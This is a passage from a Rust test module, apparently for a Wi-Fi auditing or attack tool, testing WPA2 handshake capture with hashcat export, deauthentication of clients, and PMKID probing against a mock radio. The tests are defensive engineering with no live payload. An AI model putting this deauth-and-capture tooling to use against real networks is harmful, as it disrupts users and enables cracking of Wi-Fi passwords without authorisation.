        frame.extend_from_slice(&[mic; 16]);
        frame.extend_from_slice(&0u16.to_be_bytes());
        frame
    }

    fn setup(config: CaptureConfig) -> (Arc<MockRadio>, Arc<MemoryStore>, ReconService, CaptureEngine) {
        let radio = Arc::new(MockRadio::new());
        let store = Arc::new(MemoryStore::new());
        let mut recon = ReconService::new(radio.clone(), ReconConfig::default());
        recon.start(0).unwrap();
        let engine = CaptureEngine::new(radio.clone(), store.clone(), config);
        engine.attach(&mut recon);
        (radio, store, recon, engine)
    }

    fn add_network(recon: &mut ReconService, bssid: MacAddress, channel: u8, now: u64) {
        recon.inject(
            ReconEvent::network(bssid, "lab", channel, Security::WPA2, -50, now),
            channel,
        );
        recon.update(now);
    }

    fn rx(timestamp: u64) -> RxInfo {
        RxInfo {
            rssi: -50,
            channel: 6,
            timestamp,
        }
    }

    #[test]
    fn test_ring_filters_and_bounds() {
        let ring = FrameRing::new(2);
        assert!(!ring.offer(&[0x80], FrameKind::Beacon, &rx(0)));
        assert!(!ring.offer(&[0x40], FrameKind::ProbeRequest, &rx(0)));
        assert!(ring.offer(&[0x08], FrameKind::Eapol, &rx(0)));
        ring.set_want_beacons(true);
        assert!(ring.offer(&[0x80], FrameKind::Beacon, &rx(0)));
        assert!(!ring.offer(&[0x08], FrameKind::Eapol, &rx(0)));
        assert_eq!(ring.dropped(), 1);
        assert_eq!(ring.len(), 2);
        assert_eq!(ring.drain().len(), 2);
        assert!(ring.is_empty());
    }

    #[test]
    fn test_ring_producer_never_blocks() {
        let ring = Arc::new(FrameRing::new(8));
        let producer = ring.clone();
        let accepted = std::thread::spawn(move || {
            (0..100u8)
                .filter(|i| producer.offer(&[0x08, *i], FrameKind::Eapol, &rx(*i as u64)))
                .count()
        })
        .join()
        .unwrap();

        let frames = ring.drain();
        assert_eq!(accepted, 8);
        assert_eq!(ring.dropped(), 92);
        assert_eq!(frames[0].data, vec![0x08, 0]);
        assert_eq!(frames[7].data, vec![0x08, 7]);
        assert!(ring.is_empty());
    }

    #[test]
    fn test_handshake_captured_and_saved() {
        let (_radio, store, mut recon, mut engine) = setup(CaptureConfig::default());
        add_network(&mut recon, AP, 6, 1_000);

        let sink = recon.sink();
        sink.deliver(&eapol_frame(&AP, &STA, true, 0x008a, 1), rx(1_100));
        sink.deliver(&eapol_frame(&AP, &STA, false, 0x010a, 1), rx(1_120));
        engine.update(&mut recon, 1_200);

        assert_eq!(engine.exportable_handshake_count(), 1);
        assert_eq!(engine.save_state(&AP, &STA), Some(SaveState::Saved));
        assert!(recon.network(&AP).unwrap().has_handshake);

        let saved = store.handshakes();
        assert_eq!(saved.len(), 1);
        assert!(saved[0].hashcat.starts_with("WPA*02*"));
        assert!(saved[0].hashcat.ends_with("*00"));
        assert!(engine.log().contains("Handshake captured"));
    }

    #[test]
    fn test_other_station_ignored_while_targeting() {
        let (_radio, _store, mut recon, mut engine) = setup(CaptureConfig::default());
        let other_ap = MacAddress([0x10, 0x22, 0x33, 0x44, 0x55, 0x66]);
        add_network(&mut recon, AP, 6, 1_000);
        add_network(&mut recon, other_ap, 11, 1_000);
        engine.select_target_by_address(&mut recon, &AP, 1_000).unwrap();

        let sink = recon.sink();
        sink.deliver(&eapol_frame(&other_ap, &STA, true, 0x008a, 1), rx(1_100));
        engine.update(&mut recon, 1_200);
        assert_eq!(engine.handshake_count(), 0);
        assert_eq!(engine.stats().ignored, 1);
    }

    #[test]
    fn test_partial_capture_from_another_channel_still_completes() {
        let (_radio, _store, mut recon, mut engine) = setup(CaptureConfig::default());
        let other_ap = MacAddress([0x10, 0x22, 0x33, 0x44, 0x55, 0x66]);
        add_network(&mut recon, AP, 6, 1_000);
        add_network(&mut recon, other_ap, 11, 1_000);

        let on_eleven = RxInfo {
            channel: 11,
            ..rx(1_050)
        };
        recon
            .sink()
            .deliver(&eapol_frame(&other_ap, &STA, true, 0x008a, 1), on_eleven);
        engine.update(&mut recon, 1_060);
        assert_eq!(engine.handshakes()[0].mask.bits(), 0b0001);

        engine.select_target_by_address(&mut recon, &AP, 1_100).unwrap();
        recon
            .sink()
            .deliver(&eapol_frame(&other_ap, &STA, false, 0x010a, 1), rx(1_200));
        engine.update(&mut recon, 1_300);

        let summary = &engine.handshakes()[0];
        assert_eq!(summary.ap, other_ap);
        assert_eq!(summary.mask.bits(), 0b0011);
        assert_eq!(engine.stats().ignored, 0);

        // A pair that never started is still ignored, even for the same station.
        let third_ap = MacAddress([0x10, 0x22, 0x33, 0x44, 0x55, 0x77]);
        recon
            .sink()
            .deliver(&eapol_frame(&third_ap, &STA, false, 0x010a, 1), rx(1_400));
        engine.update(&mut recon, 1_500);
        assert_eq!(engine.handshake_count(), 1);
        assert_eq!(engine.stats().ignored, 1);
    }

    #[test]
    fn test_retarget_clears_clients_and_deauth() {
        let (_radio, _store, mut recon, mut engine) = setup(CaptureConfig::default());
        let other_ap = MacAddress([0x10, 0x22, 0x33, 0x44, 0x55, 0x66]);
        add_network(&mut recon, AP, 6, 1_000);
        add_network(&mut recon, other_ap, 11, 1_000);

        engine.select_target_by_address(&mut recon, &AP, 1_000).unwrap();
        recon.sink().deliver(&eapol_frame(&AP, &STA, false, 0x010a, 1), rx(1_100));
        engine.update(&mut recon, 1_200);
        assert_eq!(engine.clients().len(), 1);

        engine.start_deauth(&mut recon, 1_300).unwrap();
        assert_eq!(recon.locked_channel(), Some(6));

        engine
            .select_target_by_address(&mut recon, &other_ap, 1_400)
            .unwrap();
        assert!(engine.clients().is_empty());
        assert!(!engine.is_deauthing());
        assert!(!recon.is_channel_locked());
        assert_eq!(recon.network(&AP).unwrap().attack_attempts, 1);
    }

    #[test]
    fn test_deauth_success_detected() {
        let (_radio, _store, mut recon, mut engine) = setup(CaptureConfig::default());
        add_network(&mut recon, AP, 6, 1_000);
        engine.select_target_by_address(&mut recon, &AP, 1_000).unwrap();
        engine.start_deauth(&mut recon, 1_000).unwrap();
        engine.update(&mut recon, 1_000);
        assert!(engine.deauth_frames() > 0);

        recon.sink().deliver(&eapol_frame(&AP, &STA, true, 0x008a, 7), rx(1_500));
        engine.update(&mut recon, 1_600);
        assert_eq!(engine.stats().deauth_successes, 1);
    }

    #[test]
    fn test_target_leaving_table_invalidates() {
        let (_radio, _store, mut recon, mut engine) = setup(CaptureConfig::default());
        add_network(&mut recon, AP, 6, 1_000);
        engine.select_target(&mut recon, 0, 1_000).unwrap();
        engine.start_deauth(&mut recon, 1_000).unwrap();

        recon.stop();
        engine.update(&mut recon, 2_000);
        assert!(engine.target().is_none());
        assert!(!engine.is_deauthing());
    }

    #[test]
    fn test_bad_index_is_invalid_target() {
        let (_radio, _store, mut recon, mut engine) = setup(CaptureConfig::default());
        add_network(&mut recon, AP, 6, 1_000);
        assert!(matches!(
            engine.select_target(&mut recon, 5, 1_000),
            Err(Error::InvalidTarget(_))
        ));
        assert!(matches!(
            engine.start_deauth(&mut recon, 1_000),
            Err(Error::InvalidTarget(_))
        ));
        assert!(engine.target().is_none());
    }

    #[test]
    fn test_active_pmkid_probe() {
        let (radio, _store, mut recon, mut engine) = setup(CaptureConfig::default());
        add_network(&mut recon, AP, 6, 1_000);
        assert!(engine.probe_pmkid(&recon, &AP).unwrap());
        let frames = radio.transmitted();
        assert_eq!(frames.len(), 1);
        assert_eq!(frames[0][0], 0x00);
        assert_eq!(&frames[0][4..10], &AP.0);
    }
}
